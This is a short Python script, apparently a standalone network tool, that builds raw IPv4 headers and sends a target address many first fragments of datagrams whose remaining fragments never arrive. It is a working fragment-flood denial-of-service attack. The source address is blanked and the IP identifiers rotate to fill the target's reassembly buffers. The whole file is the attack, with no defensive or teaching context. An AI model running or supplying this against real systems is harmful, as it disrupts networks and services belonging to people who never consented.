# SPDX-License-Identifier: Apache-2.0
# netpieces.py ADDRESS COUNT BYTES: first pieces of COUNT datagrams to an IPv4 address, whose others never come.
import socket
import struct
import sys

address, count, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(count):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + size, i % 65535 + 1, 0x2000, 64, 17, 0, b"\0" * 4, socket.inet_aton(address))
    s.sendto(head + b"x" * size, (address, 0))
print("sent", count)
